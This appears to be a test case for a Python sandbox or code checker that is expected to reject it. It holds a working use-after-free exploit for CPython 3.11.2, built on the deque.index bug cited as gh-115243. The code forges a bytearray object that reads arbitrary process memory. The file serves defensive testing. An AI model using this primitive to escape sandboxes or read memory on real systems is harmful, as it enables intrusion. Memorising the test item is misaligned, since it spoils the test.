# expect: reject memory
# line: 23
# why: round 72 (researcher A): a decorator of the program's above @property (@grab @property def tally) is handed the property object and keeps it; a class body binds it as size, read by a pure __eq__ inside deque.index (gh-115243): raw memory under 3.11.2. A getter whose descriptor a decorator above it receives is exposed, judged always
import collections

keep = []
got = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
grabbed = []
N = 25


def grab(f):
    grabbed.append(f)
    return f


class Holder:
    @grab
    @property
    def tally(self):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif id(self) == state["fake"]:
            got.append(self)
            return 2
        return 1


class P:
    """a pure __eq__: compares an attribute"""
    size = grabbed[0]

    def __eq__(self, other):
        return isinstance(other, P) and self.size == other.size

    def __hash__(self):
        return 1


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([P(), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(P), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("getter runs:", state["n"], len(keep), len(got))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
